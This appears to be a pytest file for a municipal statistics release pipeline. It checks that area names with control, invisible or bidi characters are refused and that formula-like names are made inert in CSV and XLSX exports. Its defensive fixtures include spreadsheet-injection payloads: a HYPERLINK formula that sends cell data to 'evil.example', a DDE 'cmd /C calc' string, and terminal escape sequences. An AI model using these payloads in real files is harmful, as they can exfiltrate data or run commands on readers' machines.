"""Free text in public files (issue 15, class 7): names with control or invisible characters, or of
absurd length, are refused; names a spreadsheet would run as a formula are made inert in every
public CSV and XLSX while numbers stay numbers; `release diff` shows changed names and metadata.

Fast: small tables made here, not a city."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from orchestration.cli import app
from orchestration.release import diff, find_release, tables
from orchestration.release.public_text import (
    CONFIG_MAX,
    NAME_MAX,
    TEXT_MAX,
    check_public_text,
    check_values,
    needs_quote_prefix,
    shown,
    spreadsheet_text,
    text_problem,
)
from orchestration.release.tables import TABLE_HEAD, write_csv, write_workbook
from orchestration.settings import PROJECT_DIR

runner = CliRunner()

HOSTILE = {
    "bell": "Alt\x07stadt",
    "nul": "Nord\x00",
    "terminal escape": "\x1b[31mRot\x1b[0m",
    "line feed": "Ober\nstadt",
    "carriage return": "Unter\rstadt",
    "tab inside": "Mitte\tWest",
    "DEL": "Ost\x7f",
    "C1 next line": "Süd\x85",
    "line separator": "Hafen\u2028city",
    "right-to-left override": "Alt\u202etdats",
    "bidi isolate": "\u2066Nord\u2069",
    "zero-width space": "Alt\u200bstadt",
    "byte order mark": "\ufeffAltstadt",
    "lone surrogate": "Alt\ud800stadt",
    "too long": "A" * (NAME_MAX + 1),
    "blank": "   ",
}
FINE = [
    "Altstadt",
    "Süd-Ost",
    "St. Georg / Hafen",
    "Friedrichshain – Kreuzberg",
    "Groß\u00adstadt",  # soft hyphen
    "İstanbul-Platz",
    "A" * NAME_MAX,
    '=HYPERLINK("http://evil.example";"Klick")',  # valid text: neutralised where it is written
]


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_names_with_control_or_invisible_characters_or_absurd_length_are_refused(kind):
    assert text_problem(HOSTILE[kind]) is not None


def test_ordinary_names_pass():
    assert [text_problem(name) for name in FINE] == [None] * len(FINE)
    assert text_problem("x" * 4000, limit=5000) is None  # a definition may be long, a name not


def test_each_column_has_its_length_limit():
    """A name is short, a definition longer; an index's configuration names the Gemeinde of every
    unit of an index within each Gemeinde, so a Kreis of 27 Gemeinden made it 13,739 characters,
    and it must still publish (refused, the Kreis had no release at all)."""
    units = {f"SR{k:03d}": f"05999{100 + 4 * (k % 27):03d}" for k in range(1_000)}
    config = json.dumps({"within": "gemeinde", "units": {"sozialraum": units}})
    assert len(config) > 13_739
    assert check_values("index_catalogue", "config", [("soziale_stadtentwicklung__innerhalb_gemeinde", config)]) == []
    assert check_values("areas", "area_name", [("stadtteil 011", "A" * (NAME_MAX + 1))])
    assert check_values("indicator_catalogue", "definition_de", [("x", "A" * (TEXT_MAX + 1))])
    assert check_values("index_catalogue", "config", [("x", "A" * (CONFIG_MAX + 1))])  # still bounded
    # and its characters are checked as every text's
    assert check_values("index_catalogue", "config", [("x", config[:100] + "\u202e" + config[100:])])


def test_the_dbt_test_on_staged_names_refuses_what_the_release_check_refuses():
    """dbt_project/tests/generic/plain_text.sql holds the same rule in SQL: every hostile name
    (but the length and blank ones, which the SQL checks by length and trim) matches its pattern."""
    sql = (PROJECT_DIR / "dbt_project" / "tests" / "generic" / "plain_text.sql").read_text(encoding="utf-8")
    # the pattern is the test's `invisible` block (matches_pattern gives it to each engine)
    pattern = re.search(r"\{%- set invisible -%\}\n(.+?)\n\{%- endset", sql).group(1)
    con = duckdb.connect()
    try:

        def matches(text: str) -> bool:
            return con.execute("select regexp_matches(?, ?)", [text, pattern]).fetchone()[0]

        for kind, text in HOSTILE.items():
            if kind in ("too long", "blank", "lone surrogate"):  # DuckDB text cannot hold a lone surrogate
                continue
            assert matches(text), kind
        assert not any(matches(name) for name in FINE)
    finally:
        con.close()


def _release_db(names: dict[str, str]) -> duckdb.DuckDBPyConnection:
    """A release's tables as write_tables reads them: two Stadtteile, one indicator, two values."""
    con = duckdb.connect()
    con.execute(
        "create table areas as select * from (values ('stadtteil', 3, true, '011', ?, 'gemeinde', '1', "
        "date '2019-01-01', null::date), ('stadtteil', 3, true, '012', ?, 'gemeinde', '1', date '2019-01-01', "
        "null::date)) t(level, level_rank, is_nested, area_id, area_name, parent_level, parent_id, valid_from, "
        "valid_to)",
        [names["011"], names["012"]],
    )
    con.execute(
        "create table indicator_catalogue as select * from (values ('pop_change', 'Demografie', "
        "'Bevölkerungsentwicklung', '%', 'Veränderung', 'Zähler', 'Nenner', 'Melderegister', 'Statistikstelle', "
        "'jährlich', 'stadtteil', 'neutral', 2019)) t(indicator_id, topic, name_de, unit, definition_de, "
        "numerator_de, denominator_de, source_de, responsible, update_cycle, levels, direction, first_period)"
    )
    con.execute(
        "create table indicator_values as select a.level, a.area_id, a.area_name, 'pop_change' as indicator_id, "
        "date '2024-12-31' as stichtag, v.value, v.numerator, 1000.0 as denominator, '%' as unit, "
        "false as is_suppressed, null::varchar as suppression_reason, null::varchar as flags "
        "from areas as a join (values ('011', -1.5, -15.0), ('012', 2.0, 20.0)) v(area_id, value, numerator) "
        "using (area_id)"
    )
    return con


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
        "+49 30 1234",
        "-Nord",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_like_names_are_inert_in_csv_and_xlsx_and_numbers_stay_numbers(tmp_path, name):
    con = _release_db({"011": name, "012": "Altstadt"})
    meta = {"stichtag": date(2024, 12, 31), "release_id": "2024-12-31/v1", "licence": "dl-de/by-2.0"}
    try:
        write_csv(con, "stadtteil", tmp_path / "stadtteil.csv")
        write_workbook(con, "stadtteil", tmp_path / "stadtteil.xlsx", meta)
    finally:
        con.close()

    rows = _csv_rows(tmp_path / "stadtteil.csv")
    by_area = {r[0]: r for r in rows[1:]}
    assert by_area["011"][1] == "'" + name  # the OWASP apostrophe: shown as text, never evaluated
    assert by_area["012"][1] == "Altstadt"  # ordinary text unchanged
    assert by_area["011"][7] == "-1,5" and by_area["011"][8] == "-15"  # negative numbers stay numbers
    assert by_area["012"][7] == "2"

    with zipfile.ZipFile(tmp_path / "stadtteil.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml, "a name became a formula in the workbook"
    ws = load_workbook(tmp_path / "stadtteil.xlsx")["Demografie"]
    first = TABLE_HEAD + 2  # the rows of the areas, by Gebiets-Nr.: 011, then 012
    hostile, ordinary = ws.cell(row=first, column=2), ws.cell(row=first + 1, column=2)
    assert ws.cell(row=first, column=1).value == "011" and ordinary.value == "Altstadt"
    assert hostile.value.strip() == name.strip()  # the name as delivered, no apostrophe shown ...
    assert hostile.data_type == "s" and hostile.quotePrefix  # ... but text with Excel's quote prefix: inert
    assert not ordinary.quotePrefix
    values = [ws.cell(row=r, column=3) for r in (first, first + 1)]
    assert [(c.data_type, c.value) for c in values] == [("n", -1.5), ("n", 2.0)]  # numbers stay number cells


FORMULA = '=HYPERLINK("http://evil.example/";"x")'


def _kreis_release_db() -> duckdb.DuckDBPyConnection:
    """A Kreis's release tables: two Gemeinden (one named like a formula), a Stadtteil in each, an
    indicator whose texts and an index whose area names a spreadsheet would run."""
    con = duckdb.connect()
    con.execute(
        """create table areas as select * from (values
            ('gemeinde', 2, true, '001', ?, 'kreis', 'K', date '2019-01-01', null::date),
            ('gemeinde', 2, true, '002', 'Bergheide', 'kreis', 'K', date '2019-01-01', null::date),
            ('stadtteil', 3, true, '001011', ?, 'gemeinde', '001', date '2019-01-01', null::date),
            ('stadtteil', 3, true, '002011', 'Altstadt', 'gemeinde', '002', date '2019-01-01', null::date))
            t(level, level_rank, is_nested, area_id, area_name, parent_level, parent_id, valid_from, valid_to)""",
        [FORMULA, "-" + FORMULA],
    )
    con.execute(
        """create table indicator_catalogue as select * from (values ('pop_change', 'Demografie', ?, '%', ?, ?,
            'Nenner', '+Melderegister', 'Statistikstelle', 'jährlich', 'stadtteil', 'neutral', 2019))
            t(indicator_id, topic, name_de, unit, definition_de, numerator_de, denominator_de, source_de,
              responsible, update_cycle, levels, direction, first_period)""",
        ["@" + FORMULA, FORMULA, FORMULA],
    )
    con.execute(
        """create table indicator_values as select a.level, a.area_id, a.area_name, 'pop_change' as indicator_id,
            d.stichtag, 1.5 as value, 15.0 as numerator, 1000.0 as denominator, '%' as unit,
            false as is_suppressed, null::varchar as suppression_reason, null::varchar as flags
           from areas as a cross join (values (date '2023-12-31'), (date '2024-12-31')) d(stichtag)"""
    )
    con.execute(
        """create table index_status_dynamics as select 'sozialindex' as index_id, level, area_id, area_name,
            date '2024-12-31' as stichtag, 1200 as population, true as indexed, null::varchar as reason,
            0.25 as status_z, 2 as status_class
           from areas where level = 'stadtteil'"""
    )
    return con


def _texts(ws) -> list:
    return [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_every_text_of_a_kreis_workbook_is_inert_and_streaming_changes_no_byte(tmp_path, monkeypatch):
    """Header block, Gemeinde column, index sheet, definitions: every text a spreadsheet would run is
    a text cell with Excel's quote prefix, not only the area names. The sheets are streamed (rows
    from DuckDB in chunks): one row at a time gives the same bytes. Each sheet states its used range,
    as a reader in read-only mode needs it."""
    meta = {"stichtag": date(2024, 12, 31), "release_id": "2024-12-31/v1", "licence": "=lizenz()"}
    con = _kreis_release_db()
    try:
        write_workbook(con, "stadtteil", tmp_path / "chunked.xlsx", meta)
        monkeypatch.setattr(tables, "CHUNK_ROWS", 1)
        write_workbook(con, "stadtteil", tmp_path / "rows.xlsx", meta)
    finally:
        con.close()
    assert (tmp_path / "chunked.xlsx").read_bytes() == (tmp_path / "rows.xlsx").read_bytes()
    with zipfile.ZipFile(tmp_path / "chunked.xlsx") as z:
        assert not any("<f>" in z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
    wb = load_workbook(tmp_path / "chunked.xlsx")
    assert wb.sheetnames == ["Demografie", "Indizes", "Zeichenerklärung"]
    hostile = [c for ws in wb.worksheets for c in _texts(ws) if needs_quote_prefix(c.value)]
    places = {(c.parent.title, c.column_letter) for c in hostile}
    # the licence and the name in the header block, the Gemeinde, the definitions; the index's areas
    assert {("Demografie", "B"), ("Demografie", "C"), ("Demografie", "A"), ("Indizes", "C"), ("Indizes", "D")} <= places
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile), [c.coordinate for c in hostile]
    assert not any(c.quotePrefix for ws in wb.worksheets for c in _texts(ws) if not needs_quote_prefix(c.value))
    read_only = load_workbook(tmp_path / "chunked.xlsx", read_only=True)
    for ws in wb.worksheets:
        assert (read_only[ws.title].max_row, read_only[ws.title].max_column) == (ws.max_row, ws.max_column), ws.title


def test_a_workbook_that_cannot_be_finished_leaves_no_file_behind(tmp_path, monkeypatch):
    """The zip rewritten for fixed bytes is written beside the workbook and renamed; a failure
    leaves neither it nor openpyxl's temporary files of the sheets."""
    import tempfile

    meta = {"stichtag": date(2024, 12, 31), "release_id": "2024-12-31/v1", "licence": "dl-de/by-2.0"}
    before = set(Path(tempfile.gettempdir()).glob("openpyxl.*"))
    con = _kreis_release_db()
    try:
        broken = tmp_path / "bad.xlsx"
        write_workbook(con, "stadtteil", broken, meta)
        broken.write_bytes(broken.read_bytes()[:-200])  # a damaged zip
        with pytest.raises(zipfile.BadZipFile):
            tables._fix_zip(broken, date(2024, 12, 31))
        assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.xlsx"]

        def fail(*_args):
            raise RuntimeError("the warehouse went away")

        monkeypatch.setattr(tables, "_legend_sheet", fail)  # after the topic and index sheets were streamed
        with pytest.raises(RuntimeError, match="went away"):
            write_workbook(con, "stadtteil", tmp_path / "never.xlsx", meta)
    finally:
        con.close()
    assert not (tmp_path / "never.xlsx").exists()
    assert set(Path(tempfile.gettempdir()).glob("openpyxl.*")) <= before


def test_spreadsheet_rule_case_by_case():
    for text in ("=1+1", "+1+1", "-A", "@A", "\t1", "\r1", "\n1", "\x001", "\uff0b1", "- 1", "-1,5e3", "-", "+"):
        assert spreadsheet_text(text) == "'" + text, text
    for text in ("-1,5", "+3", "-12", "0", "1.5", "-0,0001", "", "Altstadt", "•", "x", "/", "'=1"):
        assert spreadsheet_text(text) == text, text


def test_the_release_refuses_bad_text_in_any_public_table_and_never_echoes_it_raw():
    con = _release_db({"011": "Alt\x1b[2Jstadt", "012": "B" * 400})
    try:
        problems = check_public_text(con, ["areas", "indicator_values", "indicator_catalogue"])
    finally:
        con.close()
    assert any(p.startswith("areas.area_name (stadtteil 011): character U+001B") for p in problems)
    assert any(p.startswith("indicator_values.area_name (stadtteil 011)") for p in problems)
    assert any("areas.area_name (stadtteil 012): 400 characters, more than 200" in p for p in problems)
    assert not any("\x1b" in p for p in problems)  # escaped: the message cannot clear the screen
    assert "\\u001b[2J" in problems[0]
    assert shown("a\u202eb") == "a\\u202eb"


def _small_release(root: Path, version: int, names: dict[str, str], manifest_extra: dict) -> None:
    folder = root / "2024-12-31" / f"v{version}"
    (folder / "data").mkdir(parents=True)
    con = _release_db(names)
    try:
        for table in ("areas", "indicator_values", "indicator_catalogue"):
            con.execute(f"copy (select * from {table} order by all) to '{folder / 'data' / table}.parquet'")
    finally:
        con.close()
    manifest = {"release": f"2024-12-31/v{version}", "inputs": [], **manifest_extra}
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


def test_release_diff_shows_renamed_areas_and_changed_metadata_not_only_values(tmp_path):
    root = tmp_path / "releases"
    rules = {"rules": {"dbt_vars": {"public_decimals": 4}}, "code": {"git_commit": "aaa"}}
    _small_release(root, 1, {"011": "Altstadt", "012": "Neustadt"}, rules)
    changed = {"rules": {"dbt_vars": {"public_decimals": 3}}, "code": {"git_commit": "bbb"}}
    _small_release(root, 2, {"011": '=HYPERLINK("http://evil.example")', "012": "Neu\x1b[31mstadt"}, changed)
    a, b = find_release(root, "2024-12-31/v1"), find_release(root, "2024-12-31/v2")

    result = diff(a, b)
    assert result["totals"] == {"same": 2}  # not one value changed ...
    renamed = [c for c in result["attributes_changed"] if c["table"] == "areas"]
    assert [(c["key"], c["column"], c["before"]) for c in renamed] == [
        ("stadtteil 011 2019-01-01", "area_name", "Altstadt"),
        ("stadtteil 012 2019-01-01", "area_name", "Neustadt"),
    ]  # ... but two names did
    assert {m["field"]: (m["before"], m["after"]) for m in result["metadata_changed"]} == {
        "code.git_commit": ("aaa", "bbb"),
        "rules.dbt_vars.public_decimals": (4, 3),
    }

    out = runner.invoke(app, ["release", "diff", "2024-12-31/v1", "2024-12-31/v2"],
                        env={"SOZIALMONITOR_RELEASES_DIR": str(root)}).output  # fmt: skip
    assert "2 change(s) of area names or attributes" in out and "2 of rules, code, tools or signing key" in out
    assert "Altstadt" in out and "HYPERLINK" in out and "public_decimals" in out
    assert "\x1b[31m" not in out and "\\u001b[31m" in out  # a hostile name is shown escaped, never acted on


def test_release_diff_names_added_and_removed_areas_and_catalogue_changes(tmp_path):
    root = tmp_path / "releases"
    _small_release(root, 1, {"011": "Altstadt", "012": "Neustadt"}, {})
    _small_release(root, 2, {"011": "Altstadt", "012": "Neustadt"}, {})
    v2 = root / "2024-12-31" / "v2" / "data"
    con = duckdb.connect()
    try:
        con.execute(
            f"copy (select * replace ('Neue Definition' as definition_de) from '{v2}/indicator_catalogue.parquet') "
            f"to '{v2}/catalogue.tmp.parquet'"
        )
        con.execute(
            f"copy (select * replace (case when area_id = '012' then '013' else area_id end as area_id) "
            f"from '{v2}/areas.parquet') to '{v2}/areas.tmp.parquet'"
        )
    finally:
        con.close()
    (v2 / "catalogue.tmp.parquet").replace(v2 / "indicator_catalogue.parquet")
    (v2 / "areas.tmp.parquet").replace(v2 / "areas.parquet")
    changes = diff(find_release(root, "2024-12-31/v1"), find_release(root, "2024-12-31/v2"))["attributes_changed"]
    assert {(c["table"], c["key"], c["change"], c["column"]) for c in changes} == {
        ("areas", "stadtteil 012 2019-01-01", "removed", ""),
        ("areas", "stadtteil 013 2019-01-01", "added", ""),
        ("indicator_catalogue", "pop_change", "changed", "definition_de"),
    }


def test_the_atlas_csv_export_applies_the_same_rule(tmp_path):
    """The atlas builds its CSV in the browser (atlas.js, csvField): same cases, same answers."""
    import shutil
    import subprocess

    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed: the browser tests (make browser) cover the export")
    source = (PROJECT_DIR / "orchestration" / "release" / "atlas" / "static" / "atlas.js").read_text(encoding="utf-8")
    function = re.search(r"  function csvField\(s\) \{.*?\n  \}\n", source, re.S).group(0)
    cases = ["=1+1", "+1+1", "-Nord", "@SUM(A1)", "\t1", "\uff1d1", "-1,5", "+3", "-12", "Altstadt", "•", "a;b"]
    script = tmp_path / "csv.js"
    script.write_text(function + f"\nprocess.stdout.write(JSON.stringify({json.dumps(cases)}.map(csvField)));\n")
    out = json.loads(subprocess.run([node, str(script)], capture_output=True, text=True, check=True).stdout)
    expected = [spreadsheet_text(c) for c in cases]
    expected[-1] = '"a;b"'  # and quoted where it holds the separator, as csv.writer does
    assert out == expected
